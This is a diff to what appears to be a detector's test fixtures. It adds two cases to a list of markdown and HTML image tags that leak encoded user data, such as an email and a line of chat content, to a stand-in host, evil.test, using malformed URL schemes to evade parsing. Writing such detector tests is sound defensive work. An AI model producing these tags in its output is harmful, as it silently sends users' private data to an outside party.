@@ -65,6 +65,8 @@ POSITIVES = [
     ("tracking-param-encoded", "![x](https://evil.test/p.png?utm_content=dGhlIHVzZXIgYXNrZWQgYWJvdXQgaGVyIGxvYW4)"),
     ("tracking-param-email", "[x](https://evil.test/p?ref=dana.whitfield@fastmail.com)"),
     ("subdomain-pin-beside-its-name", "![x](https://4471.pin.evil.test/p.png)"),
+    ("scheme-without-slashes", "![x](https:evil.test/p.png?d=ZGFuYUBmYXN0bWFpbC5jb20)"),
+    ("backslashes-for-slashes", '<img src="https:\\\\evil.test\\p.png?d=ZGFuYUBmYXN0bWFpbC5jb20">'),
     ("percent-hidden-letters", "<a href=\"https://img.relaystat.test/c.png?m=%4D%61%72%74%61%20%4F%79%65\">invoice</a>"),
 ]
 
